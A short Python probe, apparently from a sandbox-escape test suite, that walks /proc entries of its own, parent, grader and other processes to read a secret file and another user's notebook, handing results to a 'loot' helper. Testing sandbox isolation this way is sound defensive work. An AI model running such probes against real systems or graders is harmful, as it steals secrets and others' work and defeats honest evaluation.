"""Goes round by /proc: the root and the working folder of every process, and its own."""
# Succeeds where open: read outside, memory of others

import os

from attacker import PLACES, attempt, loot

for pid in ("self", "thread-self", os.getppid(), PLACES["grader"], *PLACES["warm"], 1):
    for way in ("root", "cwd", "fd/0/..", "map_files"):
        loot(attempt(lambda: open(f"/proc/{pid}/{way}{PLACES['secret']}").read()))  # noqa: B023
    loot(attempt(lambda: open(f"/proc/{pid}/cwd/../../../honest/ps1/ps1.ipynb").read()))  # noqa: B023
